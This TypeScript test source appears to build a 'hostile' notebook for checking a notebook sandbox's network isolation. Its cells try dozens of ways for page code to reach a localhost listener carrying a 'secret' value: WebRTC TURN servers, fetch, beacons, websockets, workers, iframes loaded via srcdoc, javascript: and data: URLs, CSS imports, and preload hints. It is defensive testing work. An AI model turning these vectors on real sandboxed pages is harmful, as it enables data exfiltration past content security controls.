import { hostileElements } from './elements.ts';
import { notebook, secretAddress, type Target } from './notebook.ts';

/** What a script opens a connection with, where it has WebRTC. */
const PEER = (udp: number, tcp: number): string => `
  const open = async (Peer) => {
    const servers = [
      {urls: "stun:127.0.0.1:${udp}"},
      {urls: "turn:127.0.0.1:${udp}", username: "secret", credential: "x"},
      {urls: "turn:127.0.0.1:${tcp}?transport=tcp", username: "secret", credential: "x"}
    ];
    for (const iceTransportPolicy of ["all", "relay"]) {
      const peer = new Peer({iceServers: servers, iceTransportPolicy});
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }
    return "opened";
  };`;

/** What the other cells use: an attempt that is noted, elements, frames. */
const toolsCell = ({ udp, tcp }: Target): string => `
    const tried = [];
    const attempt = async (name, run) => {
      let came;
      try {
        came = await Promise.race([run(), new Promise((_, fail) => setTimeout(() => fail("no answer"), 1500))]);
      } catch (error) {
        came = "stopped: " + error;
      }
      tried.push(name + ": " + came);
    };
    const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
    const child = (set) => {
      const frame = make("iframe");
      set?.(frame);
      document.body.append(frame);
      return frame;
    };
    ${PEER(udp, tcp)}`;

/** Looks for WebRTC in this window, in frames without a document of their own, and in other windows. */
const peersCell = `
    const names = Object.getOwnPropertyNames(window).filter((name) => /RTCPeerConnection/.test(name));
    await attempt("webrtc", () => open(window.RTCPeerConnection));
    await attempt("webkit", () => open(window.webkitRTCPeerConnection));
    await attempt("constructor", () => open((0, eval)("RTCPeerConnection")));
    for (const name of names) await attempt(name, () => open(window[name]));
    await attempt("window chain", () => open(Object.getPrototypeOf(window).RTCPeerConnection));
    await attempt("blank child", () => open(child().contentWindow.RTCPeerConnection));
    await attempt("blank child, same task", () => {
      const f = child();
      const P = f.contentWindow.RTCPeerConnection;
      return open(P);
    });
    await attempt("about:blank child", () => {
      const f = child((f) => { f.src = "about:blank"; });
      return open(f.contentWindow.RTCPeerConnection);
    });
    await attempt("object child", () => {
      const o = make("object", {data: "about:blank", type: "text/html"});
      document.body.append(o);
      return open(o.contentWindow.RTCPeerConnection);
    });
    await attempt("embed child", () => {
      document.body.append(make("embed", {src: "about:blank", type: "text/html"}));
      return open(window[0].RTCPeerConnection);
    });
    await attempt("frames", () => {
      const peers = [...Array(window.length).keys()].map((i) => window[i].RTCPeerConnection);
      return open(peers.find(Boolean));
    });
    await attempt("window.open", () => open(window.open("about:blank").RTCPeerConnection));
    await attempt("document.open", () => {
      const f = child();
      f.contentDocument.write("<p>x");
      return open(f.contentWindow.RTCPeerConnection);
    });
    await attempt("parent", () => open(window.parent.RTCPeerConnection));`;

/** Runs code in frames, scripts and workers. */
function scriptsCell({ udp, tcp }: Target): string {
  const at = secretAddress(tcp);
  const inFrame = `(async () => {
    ${PEER(udp, tcp)}
    await open(window.RTCPeerConnection ?? window.webkitRTCPeerConnection);
  })()`;
  return `
    const code = ${JSON.stringify(inFrame)};
    const script = "<script>" + code + "</scr" + "ipt>";
    const attribute = code.replaceAll('"', "&quot;");
    const inChild = async (name, set) => attempt(name, () => {
      child(set);
      return new Promise((next) => setTimeout(() => next("made"), 150));
    });
    await inChild("srcdoc script", (f) => { f.srcdoc = script; });
    await inChild("srcdoc onload", (f) => { f.srcdoc = '<body onload="' + attribute + '">'; });
    await inChild("srcdoc svg", (f) => {
      f.srcdoc = '<svg onload="' + attribute + '"></svg><details open ontoggle="' + attribute + '">';
    });
    await inChild("javascript:", (f) => { f.src = "javascript:" + encodeURIComponent(code); });
    await inChild("data:", (f) => { f.src = "data:text/html," + encodeURIComponent(script); });
    await inChild("blob:", (f) => { f.src = URL.createObjectURL(new Blob([script], {type: "text/html"})); });
    await inChild("sandbox", (f) => {
      f.sandbox = "allow-scripts allow-same-origin allow-popups allow-top-navigation";
      f.srcdoc = script;
    });
    await inChild("csp", (f) => {
      f.setAttribute("csp", "script-src 'unsafe-inline'");
      f.srcdoc = script;
    });
    await attempt("inline script", () => document.body.append(make("script", {textContent: code})));
    await attempt("blob import", () => {
      const src = URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
      document.body.append(make("script", {type: "module", src}));
    });
    await attempt("worker", () => new Promise((done, fail) => {
      const w = new Worker(URL.createObjectURL(new Blob(["fetch('${at}worker'); postMessage(1)"])));
      w.onmessage = done;
      w.onerror = fail;
    }));
    await attempt("shared worker", () => new Promise((done, fail) => {
      const w = new window.SharedWorker("data:text/javascript,fetch('${at}shared')");
      w.onerror = fail;
    }));
    await attempt("service worker", () => navigator.serviceWorker.register("${at}sw"));
    await attempt("worklet", async () => (await new window.AudioContext().audioWorklet.addModule("${at}worklet")));`;
}

/** Asks for an address with each interface that a script has. */
const requestsCell = ({ udp, tcp }: Target): string => `
    const at = "${secretAddress(tcp)}";
    await attempt("fetch", () => fetch(at + "fetch", {mode: "no-cors"}));
    await attempt("fetch of a child", () => child().contentWindow.fetch(at + "fetch-child"));
    await attempt("keepalive", () => fetch(at + "keepalive", {keepalive: true, mode: "no-cors"}));
    await attempt("fetchLater", () => window.fetchLater(at + "later", {activateAfter: 0}));
    await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", at + "xhr"); x.send(); });
    await attempt("beacon", () => navigator.sendBeacon(at + "beacon", "secret"));
    await attempt("websocket", () => new WebSocket("ws://127.0.0.1:${tcp}/?secret"));
    await attempt("websocket stream", () => new window.WebSocketStream("ws://127.0.0.1:${tcp}/?secret").opened);
    await attempt("eventsource", () => new EventSource(at + "events"));
    await attempt("webtransport", () => new window.WebTransport("https://127.0.0.1:${udp}/secret").ready);
    await attempt("import", () => (0, eval)("import('" + at + "import')"));
    await attempt("import made", () => new Function("return import('" + at + "import-made')")());
    await attempt("import map", () => {
      document.head.append(make("script", {type: "importmap", text: JSON.stringify({imports: {"y": at + "mapped"}})}));
    });
    await attempt("css", () => {
      const rules = "@import '" + at + "sheet'; a { background: url(" + at + "sheet-url) }";
      return new window.CSSStyleSheet().replace(rules);
    });
    await attempt("fontface", () => new window.FontFace("x", "url(" + at + "fontface)").load());
    await attempt("image", () => { new Image().src = at + "image"; });
    await attempt("audio", () => new Audio(at + "audio").play());
    await attempt("media session", () => {
      navigator.mediaSession.metadata = new window.MediaMetadata({artwork: [{src: at + "artwork"}]});
    });
    await attempt("payment", () => {
      const total = {label: "x", amount: {currency: "EUR", value: "1"}};
      return new window.PaymentRequest([{supportedMethods: at + "pay"}], {total}).canMakePayment();
    });
    await attempt("fedcm", () => {
      const providers = [{configURL: at + "fedcm", clientId: "x"}];
      return navigator.credentials.get({identity: {providers}});
    });
    await attempt("presentation", () => new window.PresentationRequest(at + "presentation").getAvailability());
    await attempt("notification", () => new window.Notification("x", {icon: at + "notification"}));
    await attempt("popup", () => window.open(at + "popup"));
    await attempt("top", () => { window.top.location = at + "top"; });
    await attempt("parent", () => { window.parent.location = at + "parent"; });
    await attempt("link click", () => {
      const a = make("a", {href: at + "click", ping: at + "click-ping", target: "_blank"});
      document.body.append(a);
      a.addEventListener("click", (e) => e.stopImmediatePropagation());
      a.click();
    });
    await attempt("xslt", () => {
      const xml = '<?xml-stylesheet href="' + at + 'xslt"?><a/>';
      const p = new DOMParser().parseFromString(xml, "text/xml");
      document.body.append(document.adoptNode(p.documentElement));
    });
    await attempt("background", () => { document.body.style.backgroundImage = "url(" + at + "style)"; });
    await attempt("registration", () => navigator.registerProtocolHandler("web+x", at + "%s"));
    await attempt("auction", () => {
      const group = {owner: at, name: "x", updateURL: at + "auction"};
      return navigator.joinAdInterestGroup(group, 1);
    });`;

/** Asks for an address with each element, in the document and in frames, and shows what was tried. */
function elementsCell({ tcp, hash }: Target): string {
  const at = secretAddress(tcp);
  return `
    const elements = ${JSON.stringify(hostileElements(at, hash))};
    for (const html of elements) await attempt(html.slice(0, 40), async () => {
      const holder = document.createElement("div");
      document.body.append(holder);
      holder.innerHTML = html;
      holder.append(document.createRange().createContextualFragment(html));
      child((f) => { f.srcdoc = html; });
    });
    const hints = ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload"];
    for (const rel of [...hints, "stylesheet"]) await attempt("head " + rel, () => {
      document.head.append(make("link", {rel, as: "script", integrity: "${hash}", href: "${at}head-" + rel}));
    });
    await attempt("meta csp", () => {
      const content = "default-src *; report-uri ${at}report";
      document.head.prepend(make("meta", {httpEquiv: "Content-Security-Policy", content}));
      new Image().src = "${at}after-meta";
    });
    await attempt("script with the hash", () => {
      document.head.append(make("script", {src: "${at}hash", integrity: "${hash}", crossOrigin: "anonymous"}));
    });
    await new Promise((next) => setTimeout(next, 1500));
    display(html\`<ul class="tried">\${tried.map((line) => html\`<li>\${line}\`)}</ul>\`);`;
}

/**
 * A notebook that tries every way out but sending a frame to another address. Its last cell names what it tried: an
 * attempt that ends in an error says so, and only the listeners know whether anything left.
 */
export function hostileNotebook(target: Target): string {
  const cells = [toolsCell(target), peersCell, scriptsCell(target), requestsCell(target), elementsCell(target)];
  return notebook(
    'Hostile',
    cells.map((cell, i) => `await ${i < 2 ? 'null' : `step${i - 1}`};${cell}\nconst step${i} = true;`),
  );
}
